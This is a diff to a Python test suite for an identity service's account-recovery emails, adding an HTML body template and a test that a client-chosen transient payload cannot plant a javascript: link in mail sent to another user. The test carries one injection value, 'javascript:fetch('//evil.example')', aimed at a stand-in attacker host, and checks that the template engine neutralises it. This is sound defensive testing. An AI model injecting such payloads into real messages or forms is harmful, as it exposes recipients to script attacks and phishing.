@@ -24,6 +24,9 @@ SHOWN = (
     "|{{ if .RequestURL }}url{{ end }}|{{ len %s }}"
 )
 
+# An operator's HTML body that links to where the client asks (as Go's html/template renders it).
+LINKED = '<a href="{{ .TransientPayload.next }}">Continue</a> {{ .RecoveryCode }}'
+
 
 def _b64(text: str) -> str:
     return "base64://" + base64.b64encode(text.encode()).decode()
@@ -36,7 +39,9 @@ def stack(tmp_path_factory: pytest.TempPathFactory, smtp: SmtpServer) -> Iterato
     config = code_config(smtp, sms)
     config["courier"]["templates"] = {
         "login_code": {"valid": {"email": {"subject": _b64(SHOWN % ".LoginCode")}}},
-        "recovery_code": {"valid": {"email": {"subject": _b64(SHOWN % ".RecoveryCode")}}},
+        "recovery_code": {
+            "valid": {"email": {"subject": _b64(SHOWN % ".RecoveryCode"), "body": {"html": _b64(LINKED)}}}
+        },
         "verification_code": {"valid": {"email": {"subject": _b64(SHOWN % ".VerificationCode")}}},
     }
     config["flows"]["recovery"] = {"enabled": True, "use": "code", "ui_url": RECOVERY_UI}
@@ -65,6 +70,19 @@ def test_a_recovery_code_mail_gets_the_flows_transient_payload(stack: CodeStack)
     assert stack.native.post(f"/self-service/recovery?flow={flow['id']}", body).status == 200
     [mail] = wait_for_mail(stack.smtp, email)
     assert mail.subject == f"{email}|{email}|15|autumn|url|6"
+
+
+def test_a_client_cannot_put_a_script_link_into_a_mail_sent_to_someone_else(stack: CodeStack) -> None:
+    """Anyone may start a recovery for any address, with a transient payload of their choosing: an
+    HTML body that links to a value from it must not give the mail's owner a `javascript:` link (Go's
+    html/template, which Kratos renders with, refuses the scheme in a URL attribute)."""
+    email = f"tp-{uuid.uuid4().hex[:8]}@example.com"
+    create_identity(stack.warden.admin_url, email)
+    flow = stack.native.get("/self-service/recovery/api").json()
+    body = {"method": "code", "email": email, "transient_payload": {"next": "javascript:fetch('//evil.example')"}}
+    assert stack.native.post(f"/self-service/recovery?flow={flow['id']}", body).status == 200
+    [mail] = wait_for_mail(stack.smtp, email)
+    assert mail.html.startswith('<a href="#ZgotmplZ">Continue</a> '), mail.html
 
 
 def _signed_up(stack: CodeStack, email: str, payload: dict[str, str]) -> str:
